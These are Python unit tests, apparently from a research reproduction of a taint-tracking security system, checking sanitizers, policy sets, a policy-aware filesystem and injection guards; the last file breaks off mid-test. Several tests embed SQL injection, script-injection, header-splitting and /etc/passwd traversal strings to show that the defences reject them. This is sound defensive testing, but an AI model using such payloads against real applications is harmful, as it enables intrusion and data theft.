    def test_index_returns_plain_int(self):
        assert taint_bytes(b"a", U)[0] == ord("a")

    def test_repeat(self):
        assert (taint_bytes(b"ab", U) * 2).has_policy_type(
            UntrustedData, every_byte=True)

    def test_decode_maps_bytes_to_chars(self):
        data = TaintedBytes(b"id=") + taint_bytes("é!".encode(), U)
        text = data.decode()
        assert text == "id=é!"
        assert text.policies_at(3) == PolicySet.of(U)
        assert text.policies_at(0) == PolicySet.empty()

    def test_join_and_split(self):
        joined = TaintedBytes(b",").join([taint_bytes(b"a", U), b"b"])
        assert joined == b"a,b"
        parts = joined.split(b",")
        assert parts[0].policies() == PolicySet.of(U)
        assert parts[1].policies() == PolicySet.empty()

    def test_policy_management(self):
        value = taint_bytes(b"abc", U)
        assert value.without_policy_type(UntrustedData).policies() == \
            PolicySet.empty()
        assert value.with_policy(SQLSanitized()).policies() == \
            PolicySet.of(U, SQLSanitized())

    def test_mismatched_rangemap_rejected(self):
        from repro.tracking.ranges import RangeMap
        with pytest.raises(ValueError):
            TaintedBytes(b"abc", RangeMap.empty(1))

    def test_encode_from_str_matches(self):
        text = taint_str("naïve", U)
        assert text.encode().has_policy_type(UntrustedData, every_byte=True)
