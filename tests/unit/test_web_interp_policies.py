"""Unit tests for the web substrate, the interpreter, the standard policies
and the assertion kit."""

import pytest

from repro.core.api import policy_add, policy_get
from repro.core.exceptions import (AccessDenied, DisclosureViolation,
                                   HTTPError, InjectionViolation,
                                   ScriptInjectionViolation)
from repro.interp.filters import InterpreterFilter
from repro.policies import (ACL, CodeApproval, HTMLSanitized,
                            PagePolicy, PasswordPolicy, ReadAccessPolicy,
                            SecretPolicy, SQLSanitized, UntrustedData)
from repro.security import vulndb
from repro.security.assertions import (HTMLGuardFilter,
                                       ResponseSplittingFilter,
                                       SQLGuardFilter, approve_code_file,
                                       install_script_injection_assertion,
                                       mark_request_untrusted, mark_untrusted)
from repro.tracking.propagation import concat
from repro.tracking.tainted_str import TaintedStr, taint_str
from repro.web import (Request, SessionStore, WebApplication, html_escape,
                       json_encode, sql_quote, strip_tags)


class TestSanitizers:
    def test_sql_quote_escapes_and_marks(self):
        result = sql_quote(mark_untrusted("O'Brien"))
        assert str(result) == "O''Brien"
        assert result.has_policy_type(SQLSanitized, every_char=True)
        assert result.has_policy_type(UntrustedData)

    def test_sql_quote_empty(self):
        assert sql_quote("") == ""

    def test_html_escape(self):
        result = html_escape(mark_untrusted('<b a="1">&\'</b>'))
        assert str(result) == "&lt;b a=&quot;1&quot;&gt;&amp;&#x27;&lt;/b&gt;"
        assert result.has_policy_type(HTMLSanitized, every_char=True)

    def test_json_encode(self):
        result = json_encode(mark_untrusted('say "hi"'))
        assert str(result) == '"say \\"hi\\""'
        assert result.has_policy_type(UntrustedData)

    def test_strip_tags(self):
        result = strip_tags(taint_str("<b>bold</b> text", UntrustedData()))
        assert str(result) == "bold text"
        assert result.has_policy_type(UntrustedData, every_char=True)


class TestRequestAndSession:
    def test_request_params(self):
        request = Request("/page", params={"q": "x"}, user="alice")
        assert request.param("q") == "x"
        assert request.param("missing", "default") == "default"
        with pytest.raises(HTTPError):
            request.require("missing")
        assert "alice" in repr(request)

    def test_mark_request_untrusted(self):
        request = Request("/page", params={"q": "x", "n": 3},
                          files={"upload": "content"})
        mark_request_untrusted(request)
        assert policy_get(request.params["q"]).has_type(UntrustedData)
        assert request.params["n"] == 3
        assert policy_get(request.files["upload"]).has_type(UntrustedData)

    def test_session_store(self):
        store = SessionStore()
        session = store.create(user="alice", theme="dark")
        assert store.get(session.sid).user == "alice"
        assert store.get(session.sid)["theme"] == "dark"
        assert store.get(None) is None
        store.destroy(session.sid)
        assert store.get(session.sid) is None
        assert len(store) == 0
        other = store.create()
        other.user = "bob"
        assert other.user == "bob"


class TestWebApplication:
    def test_route_dispatch(self, env):
        app = WebApplication(env)

        @app.route("/hello")
        def hello(request, response):
            response.write(f"hi {request.user}")

        body = app.handle(Request("/hello", user="alice")).body()
        assert body == "hi alice"

    def test_missing_route_is_404(self, env):
        app = WebApplication(env)
        response = app.handle(Request("/nope"))
        assert response.status == 404

    def test_http_error_from_handler(self, env):
        app = WebApplication(env)

        @app.route("/fail")
        def fail(request, response):
            raise HTTPError(400, "bad input")

        assert app.handle(Request("/fail")).status == 400

    def test_policy_violation_propagates_by_default(self, env):
        app = WebApplication(env)
        secret = policy_add("pw", PasswordPolicy("owner@example.org"))

        @app.route("/leak")
        def leak(request, response):
            response.write(secret)

        with pytest.raises(DisclosureViolation):
            app.handle(Request("/leak", user="mallory"))

    def test_policy_violation_becomes_403_when_caught(self, env):
        from repro.web import CatchViolationsMiddleware
        app = WebApplication(env)
        app.middleware(CatchViolationsMiddleware())
        secret = policy_add("pw", PasswordPolicy("owner@example.org"))

        @app.route("/leak")
        def leak(request, response):
            response.write(secret)

        assert app.handle(Request("/leak", user="mallory")).status == 403

    def test_request_middleware_runs_before_handler(self, env):
        app = WebApplication(env)
        app.middleware(mark_request_untrusted)

        @app.route("/echo")
        def echo(request, response):
            assert policy_get(request.params["q"]).has_type(UntrustedData)
            response.write("ok")

        assert app.handle(Request("/echo", params={"q": "x"})).body() == "ok"

    def test_static_file_serving(self, env):
        env.fs.mkdir("/www/docroot", parents=True)
        env.fs.write_text("/www/docroot/page.html", "<p>static</p>")
        app = WebApplication(env)
        app.add_static_mount("/static", "/www/docroot")
        assert app.handle(Request("/static/page.html")).body() == "<p>static</p>"
        assert app.handle(Request("/static/missing.html")).status == 404

    def test_static_file_with_policy_is_guarded(self, env):
        env.fs.mkdir("/www/docroot", parents=True)
        env.fs.write_text("/www/docroot/secret.txt",
                          policy_add("the-password",
                                     PasswordPolicy("owner@example.org")))
        app = WebApplication(env)
        app.add_static_mount("/static", "/www/docroot")
        with pytest.raises(DisclosureViolation):
            app.handle(Request("/static/secret.txt", user="mallory"))

    def test_response_filters_applied(self, env):
        app = WebApplication(env)
        app.add_response_filter(HTMLGuardFilter())

        @app.route("/echo")
        def echo(request, response):
            response.write(request.params["q"])

        request = Request("/echo", params={"q": "<script>x</script>"})
        mark_request_untrusted(request)
        with pytest.raises(InjectionViolation):
            app.handle(request)


class TestInterpreter:
    def test_execute_source(self, env):
        namespace = env.interpreter.execute_source("result = 1 + 1")
        assert namespace["result"] == 2

    def test_execute_file_with_output(self, env):
        env.fs.write_text("/app.py", "output('hello')")
        response = env.http_channel()
        env.interpreter.execute_file("/app.py", response=response)
        assert response.body() == "hello"

    def test_script_error_wrapped(self, env):
        from repro.interp.interpreter import ScriptError
        with pytest.raises(ScriptError):
            env.interpreter.execute_source("1/0")

    def test_interpreter_filter_requires_full_approval(self):
        flt = InterpreterFilter({"origin": "/x.php"})
        approved = taint_str("x = 1", CodeApproval())
        assert flt.filter_read(approved) == "x = 1"
        with pytest.raises(ScriptInjectionViolation):
            flt.filter_read(TaintedStr("x = 1"))
        with pytest.raises(ScriptInjectionViolation):
            flt.filter_read(approved + " # appended by attacker")
        with pytest.raises(ScriptInjectionViolation):
            flt.filter_read(TaintedStr(""))

    def test_install_script_injection_assertion(self, env):
        env.fs.write_text("/good.py", "ok = True")
        env.fs.write_text("/evil.py", "ok = True")
        install_script_injection_assertion()
        approve_code_file(env.fs, "/good.py")
        env.interpreter.execute_file("/good.py")
        with pytest.raises(ScriptInjectionViolation):
            env.interpreter.execute_file("/evil.py")


class TestStandardPolicies:
    def test_acl_parse_and_rights(self):
        acl = ACL.parse("alice:read,write bob:read All:read")
        assert acl.may("alice", "write")
        assert acl.may(None, "read")
        assert not acl.may("bob", "write")
        assert acl.may("carol", "read")          # via All
        assert ACL.parse("Known:write").may("dave", "write")
        assert not ACL.parse("Known:write").may(None, "write")

    def test_acl_grant_revoke(self):
        acl = ACL.parse("alice:read")
        assert acl.grant("bob", "read").may("bob", "read")
        assert not acl.revoke("alice", "read").may("alice", "read")
        assert acl.principals() == {"alice"}
        assert ACL.from_dict(acl.to_dict()) == acl
        assert hash(ACL.parse("a:read")) == hash(ACL.parse("a:read"))

    def test_page_policy(self):
        policy = PagePolicy(ACL.parse("alice:read"), "Front")
        policy.export_check({"type": "http", "user": "alice"})
        with pytest.raises(AccessDenied):
            policy.export_check({"type": "http", "user": "bob"})
        policy.export_check({"type": "file", "path": "/x"})  # internal: ok

    def test_read_access_policy(self):
        policy = ReadAccessPolicy(["alice"], label="reviews",
                                  allow_chair=True)
        policy.export_check({"type": "http", "user": "alice"})
        policy.export_check({"type": "http", "user": "x", "priv_chair": True})
        with pytest.raises(AccessDenied):
            policy.export_check({"type": "http", "user": "bob"})

    def test_password_policy_rules(self):
        policy = PasswordPolicy("u@example.org")
        policy.export_check({"type": "email", "email": "u@example.org"})
        policy.export_check({"type": "sql"})
        policy.export_check({"type": "http", "priv_chair": True})
        with pytest.raises(DisclosureViolation):
            policy.export_check({"type": "email", "email": "e@evil.org"})
        with pytest.raises(DisclosureViolation):
            policy.export_check({"type": "http", "user": "mallory"})
        strict = PasswordPolicy("u@example.org", allow_chair=False)
        with pytest.raises(DisclosureViolation):
            strict.export_check({"type": "http", "priv_chair": True})

    def test_secret_policy(self):
        policy = SecretPolicy("api key", allowed_types=("email",),
                              allowed_users=("admin",))
        policy.export_check({"type": "email", "email": "anyone@x.org"})
        policy.export_check({"type": "http", "user": "admin"})
        policy.export_check({"type": "file"})
        with pytest.raises(DisclosureViolation):
            policy.export_check({"type": "http", "user": "guest"})

    def test_code_approval_is_permissive(self):
        CodeApproval("installer").export_check({"type": "code"})


class TestAssertionFilters:
    def test_sql_guard_structure_strategy(self):
        guard = SQLGuardFilter("structure")
        evil = mark_untrusted("x' OR '1'='1")
        query = concat("SELECT * FROM t WHERE name = '", evil, "'")
        with pytest.raises(InjectionViolation):
            guard.filter_func(lambda q: q, (query,), {})
        safe = concat("SELECT * FROM t WHERE name = '", sql_quote(evil), "'")
        guard.filter_func(lambda q: q, (safe,), {})

    def test_sql_guard_sanitizer_strategy(self):
        guard = SQLGuardFilter("sanitizer")
        evil = mark_untrusted("anything")
        query = concat("SELECT * FROM t WHERE name = '", evil, "'")
        with pytest.raises(InjectionViolation):
            guard.filter_func(lambda q: q, (query,), {})
        guard.filter_func(
            lambda q: q,
            (concat("SELECT * FROM t WHERE name = '", sql_quote(evil), "'"),),
            {})

    def test_sql_guard_ignores_plain_queries(self):
        SQLGuardFilter().filter_func(lambda q: q, ("SELECT 1",), {})

    def test_sql_guard_rejects_unknown_strategy(self):
        with pytest.raises(ValueError):
            SQLGuardFilter("magic")

    def test_html_guard(self):
        guard = HTMLGuardFilter()
        payload = mark_untrusted("<script>x</script>")
        with pytest.raises(InjectionViolation):
            guard.filter_write(concat("<div>", payload, "</div>"))
        guard.filter_write(concat("<div>", html_escape(payload), "</div>"))
        guard.filter_write("plain, no policies")

    def test_response_splitting_filter(self):
        guard = ResponseSplittingFilter()
        guard.filter_write(TaintedStr("Location: /ok\r\n"))  # literal CRLF ok
        with pytest.raises(InjectionViolation):
            guard.filter_write(concat("Location: ",
                                      mark_untrusted("/x\r\nSet-Cookie: a=b")))


class TestVulnDB:
    def test_table1_totals(self):
        assert vulndb.cve_2008_total() == vulndb.CVE_2008_TOTAL
        rows = vulndb.cve_2008_table()
        assert sum(count for _, count, _ in rows) == vulndb.CVE_2008_TOTAL
        assert abs(sum(pct for _, _, pct in rows) - 100.0) < 1.0

    def test_sql_injection_share_matches_paper(self):
        rows = dict((name, pct) for name, _, pct in vulndb.cve_2008_table())
        assert rows["SQL injection"] == pytest.approx(20.4, abs=0.1)
        assert rows["Cross-site scripting"] == pytest.approx(14.0, abs=0.1)

    def test_addressable_fraction(self):
        assert 0.45 < vulndb.addressable_fraction() < 0.60

    def test_table2(self):
        table = dict(vulndb.web_survey_table())
        assert table["Cross-site scripting"] == pytest.approx(31.5)
        assert table["SQL injection"] == pytest.approx(7.9)
