"""Unit tests for PolicySet."""

import pytest

from repro.core.policyset import PolicySet, as_policyset
from repro.policies import (HTMLSanitized, PasswordPolicy,
                            SQLSanitized, UntrustedData)


class TestConstruction:
    def test_empty(self):
        assert len(PolicySet.empty()) == 0
        assert not PolicySet.empty()

    def test_of(self):
        pset = PolicySet.of(UntrustedData(), SQLSanitized())
        assert len(pset) == 2

    def test_duplicates_collapse(self):
        pset = PolicySet.of(UntrustedData("a"), UntrustedData("a"))
        assert len(pset) == 1

    def test_rejects_non_policy(self):
        with pytest.raises(TypeError):
            PolicySet(["nope"])

    def test_as_policyset_from_none(self):
        assert as_policyset(None) == PolicySet.empty()

    def test_as_policyset_from_policy(self):
        policy = UntrustedData()
        assert as_policyset(policy) == PolicySet.of(policy)

    def test_as_policyset_passthrough(self):
        pset = PolicySet.of(UntrustedData())
        assert as_policyset(pset) is pset


class TestSetOperations:
    def test_add_returns_new_set(self):
        original = PolicySet.empty()
        updated = original.add(UntrustedData())
        assert len(original) == 0
        assert len(updated) == 1

    def test_add_existing_is_noop(self):
        pset = PolicySet.of(UntrustedData("a"))
        assert pset.add(UntrustedData("a")) is pset

    def test_remove(self):
        pset = PolicySet.of(UntrustedData("a"), SQLSanitized())
        assert UntrustedData("a") not in pset.remove(UntrustedData("a"))

    def test_remove_missing_is_noop(self):
        pset = PolicySet.of(SQLSanitized())
        assert pset.remove(UntrustedData()) is pset

    def test_union(self):
        combined = PolicySet.of(UntrustedData()).union(
            PolicySet.of(SQLSanitized()))
        assert len(combined) == 2

    def test_intersection(self):
        left = PolicySet.of(UntrustedData(), SQLSanitized())
        right = PolicySet.of(SQLSanitized(), HTMLSanitized())
        assert list(left.intersection(right)) == [SQLSanitized()]

    def test_difference(self):
        left = PolicySet.of(UntrustedData(), SQLSanitized())
        assert list(left.difference([SQLSanitized()])) == [UntrustedData()]

    def test_without_type(self):
        pset = PolicySet.of(UntrustedData(), SQLSanitized(), HTMLSanitized())
        stripped = pset.without_type(UntrustedData)
        assert not stripped.has_type(UntrustedData)
        assert stripped.has_type(SQLSanitized)

    def test_of_type(self):
        pset = PolicySet.of(UntrustedData("a"), UntrustedData("b"),
                            SQLSanitized())
        assert len(pset.of_type(UntrustedData)) == 2

    def test_has_type_respects_subclasses(self):
        pset = PolicySet.of(SQLSanitized())
        from repro.policies.untrusted import SanitizedMarker
        assert pset.has_type(SanitizedMarker)


class TestContainerProtocol:
    def test_contains(self):
        assert UntrustedData("x") in PolicySet.of(UntrustedData("x"))

    def test_iteration_order_stable(self):
        pset = PolicySet.of(UntrustedData("b"), UntrustedData("a"))
        assert [p.source for p in pset] == ["a", "b"]

    def test_equality_with_plain_set(self):
        assert PolicySet.of(UntrustedData("x")) == {UntrustedData("x")}

    def test_hashable(self):
        assert hash(PolicySet.of(UntrustedData("x"))) == hash(
            PolicySet.of(UntrustedData("x")))

    def test_repr(self):
        assert "UntrustedData" in repr(PolicySet.of(UntrustedData()))

    def test_unhashable_policy_fields_fall_back(self):
        policy = PasswordPolicy("a@b.c")
        policy.weird = ["unhashable", {}]
        pset = PolicySet.of(policy)
        assert policy in pset
