"""Unit tests for the filesystem substrate (paths, raw FS, ResinFS)."""

import pytest

from repro.core.exceptions import AccessDenied, FileSystemError
from repro.core.policyset import PolicySet
from repro.fs import path as fspath
from repro.fs.filesystem import FileSystem
from repro.fs.resinfs import FILTER_XATTR, POLICY_XATTR, ResinFS
from repro.policies import ACL, PasswordPolicy, UntrustedData
from repro.security.assertions import WriteAccessFilter
from repro.tracking.tainted_str import taint_str

U = UntrustedData("test")


class TestPath:
    def test_normalize_dots(self):
        assert fspath.normalize("/a/./b/../c") == "/a/c"

    def test_normalize_climbs_past_root(self):
        assert fspath.normalize("/../../etc/passwd") == "/etc/passwd"

    def test_normalize_collapses_slashes(self):
        assert fspath.normalize("//a///b//") == "/a/b"

    def test_join(self):
        assert fspath.join("/home/alice", "docs", "a.txt") == \
            "/home/alice/docs/a.txt"

    def test_join_traversal_escapes(self):
        assert fspath.join("/home/alice", "../bob/f") == "/home/bob/f"

    def test_join_absolute_component_wins(self):
        assert fspath.join("/home", "/etc/passwd") == "/etc/passwd"

    def test_split_dirname_basename(self):
        assert fspath.split("/a/b/c.txt") == ("/a/b", "c.txt")
        assert fspath.dirname("/a/b") == "/a"
        assert fspath.basename("/a/b") == "b"
        assert fspath.split("/") == ("/", "")

    def test_parts(self):
        assert fspath.parts("/a/b") == ["a", "b"]
        assert fspath.parts("/") == []

    def test_is_inside(self):
        assert fspath.is_inside("/home/alice/doc", "/home/alice")
        assert fspath.is_inside("/home/alice", "/home/alice")
        assert not fspath.is_inside("/home/alicex", "/home/alice")
        assert not fspath.is_inside("/home/bob/doc", "/home/alice")
        assert fspath.is_inside("/anything", "/")

    def test_extension(self):
        assert fspath.extension("/www/up/evil.PHP") == "php"
        assert fspath.extension("/www/up/readme") == ""


class TestRawFileSystem:
    def test_mkdir_and_listdir(self):
        fs = FileSystem()
        fs.mkdir("/a/b", parents=True)
        assert fs.isdir("/a/b")
        assert fs.listdir("/a") == ["b"]

    def test_mkdir_without_parents_fails(self):
        with pytest.raises(FileSystemError):
            FileSystem().mkdir("/a/b")

    def test_mkdir_existing_dir_is_noop(self):
        fs = FileSystem()
        fs.mkdir("/a")
        fs.mkdir("/a")

    def test_mkdir_over_file_fails(self):
        fs = FileSystem()
        fs.create("/f")
        with pytest.raises(FileSystemError):
            fs.mkdir("/f")

    def test_write_read_raw(self):
        fs = FileSystem()
        fs.write_raw("/f", b"hello")
        assert fs.read_raw("/f") == b"hello"
        fs.write_raw("/f", b" world", append=True)
        assert fs.read_raw("/f") == b"hello world"

    def test_read_missing_file(self):
        with pytest.raises(FileSystemError):
            FileSystem().read_raw("/missing")

    def test_unlink(self):
        fs = FileSystem()
        fs.write_raw("/f", b"x")
        fs.unlink("/f")
        assert not fs.exists("/f")
        with pytest.raises(FileSystemError):
            fs.unlink("/f")

    def test_unlink_nonempty_dir_fails(self):
        fs = FileSystem()
        fs.mkdir("/d")
        fs.write_raw("/d/f", b"x")
        with pytest.raises(FileSystemError):
            fs.unlink("/d")

    def test_rename(self):
        fs = FileSystem()
        fs.write_raw("/old", b"x")
        fs.rename("/old", "/new")
        assert fs.read_raw("/new") == b"x"
        assert not fs.exists("/old")

    def test_stat(self):
        fs = FileSystem()
        fs.write_raw("/f", b"abc")
        stat = fs.stat("/f")
        assert stat.kind == "file" and stat.size == 3

    def test_walk(self):
        fs = FileSystem()
        fs.mkdir("/a/b", parents=True)
        fs.write_raw("/a/f", b"x")
        assert set(fs.walk("/a")) == {"/a", "/a/b", "/a/f"}

    def test_xattrs(self):
        fs = FileSystem()
        fs.write_raw("/f", b"x")
        fs.set_xattr("/f", "user.test", "value")
        assert fs.get_xattr("/f", "user.test") == "value"
        assert fs.list_xattrs("/f") == ["user.test"]
        fs.remove_xattr("/f", "user.test")
        assert fs.get_xattr("/f", "user.test") is None


class TestResinFS:
    def test_policy_persists_through_file(self):
        fs = ResinFS()
        fs.write_text("/secret.txt", taint_str("hunter2", U))
        restored = fs.read_text("/secret.txt")
        assert restored == "hunter2"
        assert restored.policies() == PolicySet.of(U)
        # and the policy really is serialized in the xattr, not cached
        assert fs.raw.get_xattr("/secret.txt", POLICY_XATTR)

    def test_partial_policy_ranges_persist(self):
        fs = ResinFS()
        fs.write_text("/f", "id=" + taint_str("42", U))
        restored = fs.read_text("/f")
        assert restored.policies_at(0) == PolicySet.empty()
        assert restored.policies_at(3) == PolicySet.of(U)

    def test_plain_data_has_no_policy_xattr(self):
        fs = ResinFS()
        fs.write_text("/f", "plain")
        assert fs.raw.get_xattr("/f", POLICY_XATTR) is None
        assert fs.read_text("/f").policies() == PolicySet.empty()

    def test_append_preserves_existing_policies(self):
        fs = ResinFS()
        fs.write_text("/log", taint_str("secret", U))
        fs.write_text("/log", " more", append=True)
        restored = fs.read_text("/log")
        assert restored == "secret more"
        assert restored.policies_at(0) == PolicySet.of(U)
        assert restored.policies_at(7) == PolicySet.empty()

    def test_external_modification_spreads_policies(self):
        fs = ResinFS()
        fs.write_text("/f", taint_str("ab", U))
        fs.raw.write_raw("/f", b"abcdef")   # modified behind RESIN's back
        assert fs.read_text("/f").policies() == PolicySet.of(U)

    def test_file_policies_helper(self):
        fs = ResinFS()
        fs.write_text("/f", taint_str("pw", PasswordPolicy("a@b.c")))
        assert fs.file_policies("/f").has_type(PasswordPolicy)

    def test_add_file_policy(self):
        fs = ResinFS()
        fs.write_text("/code.py", "print('hi')")
        fs.add_file_policy("/code.py", U)
        assert fs.read_text("/code.py").has_policy_type(UntrustedData,
                                                        every_char=True)

    def test_open_read_write_handles(self):
        fs = ResinFS()
        with fs.open("/f", "w") as handle:
            handle.write(taint_str("abc", U))
            handle.write("def")
        with fs.open("/f", "r") as handle:
            data = handle.read()
        assert data == b"abcdef"
        assert data.policies_at(0) == PolicySet.of(U)
        assert data.policies_at(3) == PolicySet.empty()

    def test_open_append(self):
        fs = ResinFS()
        fs.write_text("/f", "one")
        with fs.open("/f", "a") as handle:
            handle.write("two")
        assert str(fs.read_text("/f")) == "onetwo"

    def test_open_modes(self):
        fs = ResinFS()
        with pytest.raises(FileSystemError):
            fs.open("/f", "rb")
        fs.write_text("/f", "x")
        handle = fs.open("/f", "r")
        with pytest.raises(FileSystemError):
            handle.write("y")
        handle.close()
        with pytest.raises(FileSystemError):
            handle.read()

    def test_read_sizes(self):
        fs = ResinFS()
        fs.write_text("/f", "abcdef")
        handle = fs.open("/f", "r")
        assert bytes(handle.read(2)) == b"ab"
        assert bytes(handle.read()) == b"cdef"

    def test_persistent_write_filter_blocks_unauthorized_user(self):
        fs = ResinFS()
        fs.mkdir("/pages")
        fs.write_text("/pages/home", "content")
        fs.set_persistent_filter(
            "/pages/home", WriteAccessFilter(acl=ACL.parse("alice:write")))
        fs.set_request_context(user="mallory")
        with pytest.raises(AccessDenied):
            fs.write_text("/pages/home", "defaced")
        fs.set_request_context(user="alice")
        fs.write_text("/pages/home", "updated")
        assert str(fs.read_text("/pages/home")) == "updated"

    def test_directory_filter_guards_subtree_mutations(self):
        fs = ResinFS()
        fs.mkdir("/data")
        fs.set_persistent_filter(
            "/data", WriteAccessFilter(
                allowed=lambda user, op, path: user == "admin"))
        fs.set_request_context(user="mallory")
        with pytest.raises(AccessDenied):
            fs.write_text("/data/sub/file", "x")
        with pytest.raises(AccessDenied):
            fs.mkdir("/data/sub")
        fs.set_request_context(user="admin")
        fs.mkdir("/data/sub")
        fs.write_text("/data/sub/file", "x")
        with pytest.raises(AccessDenied):
            fs.set_request_context(user="mallory")
            fs.unlink("/data/sub/file")

    def test_persistent_filter_management(self):
        fs = ResinFS()
        fs.write_text("/f", "x")
        with pytest.raises(FileSystemError):
            fs.set_persistent_filter("/f", "not a filter")
        flt = WriteAccessFilter(acl=ACL.allow_all(("write",)))
        fs.set_persistent_filter("/f", flt)
        assert fs.get_persistent_filter("/f") is flt
        assert fs.raw.get_xattr("/f", FILTER_XATTR) is flt
        fs.remove_persistent_filter("/f")
        assert fs.get_persistent_filter("/f") is None

    def test_namespace_passthrough_helpers(self):
        fs = ResinFS()
        fs.mkdir("/a/b", parents=True)
        fs.write_text("/a/b/f", "x")
        assert fs.exists("/a/b/f") and fs.isfile("/a/b/f") and fs.isdir("/a")
        assert fs.listdir("/a") == ["b"]
        assert fs.stat("/a/b/f").size == 1
        assert "/a/b/f" in list(fs.walk("/a"))
        fs.rename("/a/b/f", "/a/b/g")
        assert fs.exists("/a/b/g")
        fs.unlink("/a/b/g")
        assert not fs.exists("/a/b/g")
