"""Unit tests for the propagation helpers and the merge protocol."""

import pytest

from repro.core.exceptions import MergeError
from repro.core.policy import Policy
from repro.core.policyset import PolicySet
from repro.policies import AuthenticData, SQLSanitized, UntrustedData
from repro.tracking.merge import merge_many, merge_policysets
from repro.tracking.propagation import (concat, interpolate, merge_values,
                                        policies_of, spread_policies,
                                        stringify, strip_policies,
                                        to_tainted_str)
from repro.tracking.tainted_number import taint_int
from repro.tracking.tainted_str import taint_str

U = UntrustedData("x")
A = AuthenticData("ca")


class TestMergeProtocol:
    def test_union_of_unions(self):
        merged = merge_policysets(PolicySet.of(U), PolicySet.of(UntrustedData("y")))
        assert len(merged) == 2

    def test_intersection_policy_needs_peer(self):
        assert not merge_policysets(PolicySet.of(A), PolicySet.empty())
        assert merge_policysets(PolicySet.of(A), PolicySet.of(AuthenticData("other")))

    def test_both_empty(self):
        assert merge_policysets(None, None) == PolicySet.empty()

    def test_merge_many(self):
        merged = merge_many([PolicySet.of(U), PolicySet.of(SQLSanitized()),
                             PolicySet.empty()])
        assert merged.has_type(UntrustedData)

    def test_merge_many_empty_list(self):
        assert merge_many([]) == PolicySet.empty()

    def test_custom_merge_returning_none(self):
        class Dropper(Policy):
            def merge(self, other):
                return None

        assert merge_policysets(PolicySet.of(Dropper()),
                                PolicySet.empty()) == PolicySet.empty()

    def test_custom_merge_returning_single_policy(self):
        class Swapper(Policy):
            def merge(self, other):
                return UntrustedData("swapped")

        merged = merge_policysets(PolicySet.of(Swapper()), PolicySet.empty())
        assert merged == PolicySet.of(UntrustedData("swapped"))

    def test_merge_error_propagates(self):
        class Refuses(Policy):
            merge_strategy = "reject"

        with pytest.raises(MergeError):
            merge_policysets(PolicySet.of(Refuses()), PolicySet.of(U))


class TestPoliciesOf:
    def test_scalar_types(self):
        assert policies_of(taint_str("x", U)) == PolicySet.of(U)
        assert policies_of(taint_int(1, U)) == PolicySet.of(U)
        assert policies_of("plain") == PolicySet.empty()
        assert policies_of(42) == PolicySet.empty()

    def test_containers(self):
        data = {"key": [taint_str("a", U), "b"], "other": taint_int(1, A)}
        assert policies_of(data) == PolicySet.of(U, A)

    def test_tainted_key(self):
        assert policies_of({taint_str("k", U): "v"}) == PolicySet.of(U)


class TestHelpers:
    def test_to_tainted_str_from_number(self):
        result = to_tainted_str(taint_int(42, U))
        assert result == "42"
        assert result.policies() == PolicySet.of(U)

    def test_to_tainted_str_from_bytes(self):
        from repro.tracking.tainted_bytes import taint_bytes
        assert to_tainted_str(taint_bytes(b"ab", U)).policies() == PolicySet.of(U)

    def test_stringify_alias(self):
        assert stringify(5) == "5"

    def test_concat_mixed_values(self):
        result = concat("id=", taint_int(7, U), " name=", taint_str("bob", A))
        assert result == "id=7 name=bob"
        assert result.policies_at(3) == PolicySet.of(U)
        assert result.policies_at(0) == PolicySet.empty()

    def test_interpolate_tracks_values(self):
        result = interpolate("hello {name}", name=taint_str("eve", U))
        assert result == "hello eve"
        assert result.policies_at(6) == PolicySet.of(U)
        assert result.policies_at(0) == PolicySet.empty()

    def test_merge_values(self):
        merged = merge_values(taint_str("a", U), taint_int(1, A))
        assert merged.has_type(UntrustedData)
        assert not merged.has_type(AuthenticData)

    def test_spread_policies(self):
        result = spread_policies("abc", U)
        assert result.has_policy_type(UntrustedData, every_char=True)

    def test_strip_policies_recursive(self):
        data = {"a": [taint_str("x", U)], "b": (taint_int(1, U),)}
        stripped = strip_policies(data)
        assert policies_of(stripped) == PolicySet.empty()
        assert stripped == {"a": ["x"], "b": (1,)}

    def test_strip_policies_plain_passthrough(self):
        sentinel = object()
        assert strip_policies(sentinel) is sentinel
