"""Unit tests for the alternative injection-defence strategies of
Sections 5.3 and 5.4: the auto-sanitizing SQL filter, the structure-checking
HTML filter, and the JSON output guard."""

import pytest

from repro.channels.sqlchan import Database
from repro.core.exceptions import InjectionViolation
from repro.security.assertions import (AutoSanitizingSQLFilter,
                                       HTMLStructureGuardFilter,
                                       JSONGuardFilter, mark_untrusted)
from repro.sql.engine import Engine
from repro.tracking.propagation import concat
from repro.tracking.tainted_str import TaintedStr
from repro.web.sanitize import html_escape, json_encode


@pytest.fixture
def db():
    db = Database(Engine())
    db.execute_unchecked("CREATE TABLE users (name TEXT, role TEXT)")
    db.query("INSERT INTO users (name, role) VALUES ('alice', 'admin')")
    db.query("INSERT INTO users (name, role) VALUES ('bob', 'user')")
    return db


class TestAutoSanitizingSQLFilter:
    def test_injection_neutralized_instead_of_rejected(self, db):
        db.add_filter(AutoSanitizingSQLFilter())
        evil = mark_untrusted("x' OR '1'='1")
        result = db.query(concat(
            "SELECT name FROM users WHERE name = '", evil, "'"))
        # The query executes, but the injected OR no longer changes the
        # command structure: no rows match the literal payload.
        assert len(result.rows) == 0

    def test_untrusted_bare_value_becomes_literal(self, db):
        db.add_filter(AutoSanitizingSQLFilter())
        evil = mark_untrusted("'1'='1' OR role = 'admin'")
        result = db.query(concat(
            "SELECT name FROM users WHERE role = ", evil))
        assert len(result.rows) == 0

    def test_trusted_queries_unchanged(self, db):
        db.add_filter(AutoSanitizingSQLFilter())
        result = db.query("SELECT name FROM users WHERE role = 'admin'")
        assert [str(r["name"]) for r in result] == ["alice"]

    def test_untrusted_data_inside_string_literal_left_alone(self, db):
        db.add_filter(AutoSanitizingSQLFilter())
        needle = mark_untrusted("alice")
        result = db.query(concat(
            "SELECT role FROM users WHERE name = '", needle, "'"))
        assert [str(r["role"]) for r in result] == ["admin"]

    def test_plain_str_query_passthrough(self, db):
        flt = AutoSanitizingSQLFilter()
        assert flt.filter_func(lambda q: q, ("SELECT 1",), {}) == "SELECT 1"


class TestHTMLStructureGuardFilter:
    def test_untrusted_tag_blocked(self):
        guard = HTMLStructureGuardFilter()
        payload = mark_untrusted("<script>alert(1)</script>")
        with pytest.raises(InjectionViolation):
            guard.filter_write(concat("<div>", payload, "</div>"))

    def test_untrusted_attribute_injection_blocked(self):
        guard = HTMLStructureGuardFilter()
        payload = mark_untrusted('" onmouseover="steal()')
        with pytest.raises(InjectionViolation):
            guard.filter_write(concat('<a href="', payload, '">link</a>'))

    def test_untrusted_inside_script_element_blocked(self):
        guard = HTMLStructureGuardFilter()
        payload = mark_untrusted("1; steal()")
        with pytest.raises(InjectionViolation):
            guard.filter_write(concat("<script>var x = ", payload,
